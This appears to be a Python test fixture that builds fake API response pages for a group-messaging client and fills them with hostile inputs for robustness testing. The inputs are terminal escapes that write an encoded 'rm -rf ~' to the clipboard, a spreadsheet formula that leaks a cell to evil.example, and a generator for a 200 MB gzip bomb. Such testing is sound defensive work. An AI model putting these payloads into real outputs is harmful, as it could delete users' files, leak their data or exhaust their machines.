"""Bodies of the shapes the service answers with, filled with whatever a mode wants to try."""

from __future__ import annotations

import functools
import zlib
from typing import Any

# Escape sequences and markup that must never reach the terminal or the markup parser.
ESCAPES = (
    "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4K\x07\x1bP+q544e\x1b\\\x9b2J"
    "[bold red]markup[/] [@click=app.quit]q[/]"
)
# A member's display name that a spreadsheet would run: it sends cell A1 to another site.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
# Moments no time zone can show (the Go zero time with an offset), and the far future.
BAD_TIMES = ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "not a time")

_FIELDS = {
    "getsubs": "subscription",
    "gettopics": "topic",
    "gettopic": "message",
    "getactivitylog": "activity",
}


def page(
    endpoint: str,
    ids: list[int],
    *,
    total: int,
    token: int,
    more: bool = False,
    text: str = "",
    when: tuple[str, ...] = ("2026-11-20T11:00:00.123456789-08:00",),
) -> dict[str, Any]:
    """A list page of `endpoint` holding rows with `ids`; `text` fills every text field."""
    kind = _FIELDS.get(endpoint, "subscription")
    rows = [_row(kind, row_id, text, when[index % len(when)]) for index, row_id in enumerate(ids)]
    body: dict[str, Any] = {
        "object": "list",
        "total_count": total,
        "start_item": 1,
        "end_item": len(ids),
        "has_more": more,
        "next_page_token": token,
        "data": rows,
    }
    if endpoint == "gettopic":
        body["topic"] = _row("topic", 1, text, when[0])
        body["sub_data"] = [_row("subscription", 7, text, when[0])]
    if endpoint == "getuser":
        return {"object": "user", "id": 7, "email": f"{text}me@example.com"}
    return body


def _row(kind: str, row_id: int, text: str, when: str) -> dict[str, Any]:
    label = text or f"{kind} {row_id}"
    if kind == "subscription":
        return {
            "object": "subscription",
            "id": row_id,
            "user_id": 7,
            "group_id": row_id,
            "group_name": f"group{row_id}",
            "nice_group_name": label,
            "subs_count": 12,
            "most_recent_message": when,
            "perms": {"archives_visible": True, "view_activity": True},
            "member_labels": [{"name": label, "color_hex": "#ff0000"}],
        }
    if kind == "topic":
        return {
            "object": "topic",
            "id": row_id,
            "group_id": 1,
            "subject": label,
            "summary": label,
            "name": label,
            "num_messages": 2,
            "most_recent_message": when,
            "created": when,
            "hashtags": [{"name": label, "color_hex": "#00ff00"}],
        }
    if kind == "message":
        return {
            "object": "message",
            "id": row_id,
            "topic_id": 1,
            "user_id": 7,
            "msg_num": row_id,
            "created": when,
            "subject": label,
            "name": label,
            "body": f"<p>{label}</p><p>message {row_id}</p>",
            "hashtags": [{"name": label, "color_hex": "#0000ff"}],
            "attachments": [{"filename": label, "media_type": "text/plain"}],
        }
    return {
        "object": "activity_log",
        "id": row_id,
        "group_id": 1,
        "created": when,
        "entry": f'<a href="https://example.com/memberbyuid/7">{label}</a> subscribed',
        "via": label,
    }


@functools.cache
def gzip_bomb() -> bytes:
    """About 200 KB of gzip that unpacks to 200 MB: a JSON string of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    parts = [packer.compress(b'{"object":"list","data":[{"id":1,"subject":"')]
    block = b"0" * (1024 * 1024)
    parts.extend(packer.compress(block) for _ in range(200))
    parts.append(packer.compress(b'"}]}'))
    parts.append(packer.flush())
    return b"".join(parts)
